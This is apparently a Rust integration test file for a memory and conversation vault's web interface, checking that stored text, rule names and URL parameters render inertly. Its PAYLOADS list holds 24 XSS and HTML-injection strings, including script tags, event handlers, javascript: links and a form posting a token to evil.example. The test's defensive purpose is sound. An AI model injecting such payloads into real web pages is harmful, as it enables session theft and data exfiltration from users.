//! Whatever memories, conversations, agents and notes say, pages show it and nothing happens.

use std::collections::BTreeSet;

use serde_json::json;
use yore_domain::class::Label;
use yore_domain::conversation::{Attachment, Conversation, Message, Role};
use yore_domain::grant::Verb;
use yore_domain::hold::{Rule, RuleAction};
use yore_domain::memory::{Draft, Relation};
use yore_domain::provenance::Evidence;
use yore_domain::{ConversationId, MessageId};
use yore_engine::TokenKind;

use crate::support::{Browser, NOW, Vault, form};

/// Attempts to leave the text: markup, attributes, styles, SVG, Markdown, odd encodings.
const PAYLOADS: [&str; 24] = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script href=\"data:,alert(1)\"/></svg>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=token>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](https://a\" onmouseover=\"alert(1))",
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png \"t\")",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "{{ shell.csrf }} {% include \"login.html\" %} ${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "\u{202e}\u{0}<scr\u{0}ipt>alert(1)</script>",
    "<x hx-get=/app/logout hx-trigger=load hx-on:click=alert(1) data-hx-post=/app/logout>",
];

const TAGS: &str = "!doctype html head meta title link script body a header svg rect path nav div \
    span form input button main h1 h2 h3 h4 h5 p dl dt dd ol ul li pre code section label textarea \
    select option fieldset legend details summary mark time article table thead tbody tr th td br \
    strong em hr blockquote line circle text del ins kbd output polyline";
const ATTRIBUTES: &str = "lang data-theme charset name content rel type href src defer class \
    viewBox width height rx d aria-hidden aria-label aria-current aria-labelledby aria-live \
    aria-pressed method action value id tabindex role for rows required placeholder autocomplete \
    autofocus spellcheck selected checked size maxlength datetime title preserveAspectRatio x y x1 \
    y1 x2 y2 cx cy r text-anchor target data-name data-events data-key form download hx-get \
    hx-trigger hx-target hx-select hx-swap hx-push-url hx-sync hidden min max step points";

/// The tags of a page, each with its attributes.
fn tags(page: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut found = Vec::new();
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let closing = rest.starts_with('/');
        let name: String = rest
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_alphanumeric() || *c == '!')
            .collect();
        let (attributes, end) = attributes(&rest[name.len() + usize::from(closing)..]);
        found.push((name, attributes));
        rest = end;
    }
    found
}

fn attributes(text: &str) -> (Vec<(String, String)>, &str) {
    let mut found = Vec::new();
    let mut rest = text.trim_start();
    while !rest.starts_with('>') {
        assert!(!rest.is_empty(), "a tag that does not end: {text}");
        let end = rest.find(|c: char| c.is_whitespace() || "=>".contains(c)).unwrap();
        let name = rest[..end].to_owned();
        rest = &rest[end..];
        let mut value = String::new();
        if let Some(after) = rest.strip_prefix('=') {
            let quote = after.chars().next().unwrap();
            assert!("\"'".contains(quote), "a value without quotes: {after:.40}");
            let inner = &after[1..];
            let end = inner.find(quote).unwrap();
            value = inner[..end].to_owned();
            rest = &inner[end + 1..];
        }
        if name != "/" {
            found.push((name, value));
        }
        rest = rest.trim_start();
    }
    (found, &rest[1..])
}

/// A page holds only what our own templates write.
fn is_inert(path: &str, page: &str) {
    let known: BTreeSet<&str> = TAGS.split_whitespace().collect();
    let allowed: BTreeSet<&str> = ATTRIBUTES.split_whitespace().collect();
    let mut scripts = 0;
    for (tag, attributes) in tags(page) {
        assert!(known.contains(tag.as_str()), "{path}: <{tag}>");
        scripts += usize::from(tag == "script");
        for (name, value) in &attributes {
            let fine = allowed.contains(name.as_str()) || (tag == "!doctype" && name == "html");
            assert!(fine, "{path}: <{tag} {name}={value}>");
            if ["href", "src", "action", "hx-get", "data-events"].contains(&name.as_str()) {
                let ours = ["/app", "/openapi.json", "#"].iter().any(|own| value.starts_with(own));
                let away = tag == "a" && value.starts_with("https://");
                assert!(ours || away, "{path}: <{tag} {name}={value}>");
                let rel = attributes.iter().find(|(name, _)| name == "rel");
                let careful = rel.is_some_and(|(_, rel)| rel.contains("noreferrer"));
                assert!(ours || careful, "{path}: <{tag} {name}={value}>");
            }
        }
    }
    // An opening and a closing tag for each of the two files.
    assert_eq!(scripts, 4, "{path}");
}

async fn look(browser: &Browser<'_>, path: &str) -> String {
    let page = browser.get(path).await.expect(200);
    is_inert(path, &page);
    page
}

fn hostile_draft(evil: &str) -> Draft {
    let mut draft = Draft::text(evil);
    let content = &mut draft.content;
    content.body.structured = json!({ evil: evil }).as_object().cloned();
    content.tags = vec![evil.into()];
    content.relations = vec![Relation { kind: evil.into(), target: evil.into() }];
    content.scope.project = Some(evil.into());
    content.scope.session = Some(evil.into());
    content.provenance.actor = evil.into();
    content.provenance.method = evil.into();
    content.provenance.source = Some(evil.into());
    content.provenance.provider = Some(evil.into());
    content.provenance.evidence = vec![Evidence { reference: evil.into(), weight: None }];
    content.governance.labels = Label::new(evil).ok().into_iter().collect();
    draft
}

fn hostile_talk(evil: &str) -> (Conversation, Vec<Message>) {
    let conversation = Conversation {
        id: ConversationId::random(),
        title: Some(evil.into()),
        platform: evil.into(),
        model: Some(evil.into()),
        created: NOW,
        updated: NOW,
        scope: Default::default(),
        governance: Default::default(),
        tags: vec![evil.into()],
        summary: Some(evil.into()),
        language: None,
        foreign: Default::default(),
    };
    let message = |role, text: String| Message {
        id: MessageId::random(),
        role,
        content: json!([{ "type": "tool_use", "name": evil, "input": { evil: evil } }]),
        text,
        at: NOW,
        model: Some(evil.into()),
        platform: None,
        parent: None,
        off_path: role == Role::System,
        attachments: vec![Attachment {
            filename: evil.into(),
            media_type: evil.into(),
            blob: None,
            size: Some(7),
            foreign: Default::default(),
        }],
        foreign: Default::default(),
    };
    let messages = vec![
        message(Role::User, evil.into()),
        message(
            Role::Assistant,
            format!("# {evil}\n\n- {evil}\n\n> {evil}\n\n**{evil}** `{evil}`"),
        ),
        message(Role::Tool, evil.into()),
        message(Role::System, evil.into()),
    ];
    (conversation, messages)
}

#[tokio::test]
async fn nothing_that_was_remembered_becomes_part_of_a_page() {
    let vault = Vault::new().await;
    let browser = vault.browser().await;
    for evil in PAYLOADS {
        let id = vault.remember(hostile_draft(evil)).await;
        let page = look(&browser, &format!("/app/memory/{id}")).await;
        assert!(page.contains("class=\"said\""), "{evil}");
        let text = format!("{evil} and more");
        browser
            .post(&format!("/app/memory/{id}/revise"), &[("text", &text), ("number", "1")])
            .await
            .expect(303);
        look(&browser, &format!("/app/memory/{id}")).await;
        let asked = form(&[("q", evil), ("label", ""), ("as_of", "")]);
        look(&browser, &format!("/app/search?{asked}")).await;
    }
    for path in ["/app", "/app/search", "/app/health", "/app/audit"] {
        look(&browser, path).await;
    }
}

#[tokio::test]
async fn nothing_that_was_said_becomes_part_of_a_page() {
    let vault = Vault::new().await;
    let browser = vault.browser().await;
    for evil in PAYLOADS {
        let (conversation, messages) = hostile_talk(evil);
        let id = conversation.id;
        vault.converse(conversation, messages).await;
        let page = look(&browser, &format!("/app/conversations/{id}")).await;
        assert!(page.contains("class=\"turn user\""), "{evil}");
    }
    for path in ["/app/conversations", "/app/conversations?view=statistics", "/app/search?q=alert"]
    {
        look(&browser, path).await;
    }
}

#[tokio::test]
async fn nothing_that_agents_and_rules_are_called_becomes_part_of_a_page() {
    let vault = Vault::new().await;
    let browser = vault.browser().await;
    let owner = vault.owner_call();
    for evil in PAYLOADS {
        let rule = Rule {
            operations: vec![evil.into()],
            agent: Some(evil.into()),
            source: Some(evil.into()),
            label: Label::new(evil).ok(),
            words: vec![evil.into()],
            ..Rule::new(evil, RuleAction::Refuse)
        };
        vault.engine.put_rule(&owner, rule).await.unwrap();
        let note = Some(evil.to_owned());
        vault.engine.issue_token(&owner, TokenKind::Owner, None, note).await.unwrap();
        let fields = [
            ("agent", evil),
            ("verbs", Verb::Read.as_str()),
            ("read", evil),
            ("project", evil),
            ("max", "internal"),
            ("note", evil),
        ];
        for path in ["/app/access/preview", "/app/access/issue"] {
            let reply = browser.post(path, &fields).await;
            // What is no name of an agent is refused; the page that says so is checked, too.
            assert!(matches!(reply.status, 200 | 400), "{path} {evil}");
            if reply.status == 200 {
                is_inert(path, &reply.text);
            } else {
                assert!(!reply.text.contains("alert(1)"), "{}", reply.text);
            }
        }
        let agent = vault.agent("helper").await;
        vault.held(&agent, evil).await;
    }
    for path in ["/app/rules", "/app/access", "/app/review", "/app/audit", "/app"] {
        look(&browser, path).await;
    }
}

#[tokio::test]
async fn nothing_in_an_address_becomes_part_of_a_page() {
    let vault = Vault::new().await;
    let browser = vault.browser().await;
    for evil in PAYLOADS {
        for (path, name) in [
            ("/app", "said"),
            ("/app/search", "q"),
            ("/app/search", "platform"),
            ("/app/search", "in"),
            ("/app/conversations", "platform"),
            ("/app/conversations", "view"),
            ("/app/audit", "operation"),
            ("/app/audit", "agent"),
        ] {
            look(&browser, &format!("{path}?{}", form(&[(name, evil)]))).await;
        }
        for (path, name) in [
            ("/app/search", "kind"),
            ("/app/search", "as_of"),
            ("/app/search", "after"),
            ("/app/audit", "memory"),
            ("/app/audit", "before"),
            ("/app/audit", "from"),
            ("/app/conversations", "after"),
        ] {
            let reply = browser.get(&format!("{path}?{}", form(&[(name, evil)]))).await;
            assert_eq!(reply.status, 400, "{path} {name}");
            assert!(!reply.text.contains("alert(1)"), "{}", reply.text);
        }
    }
}
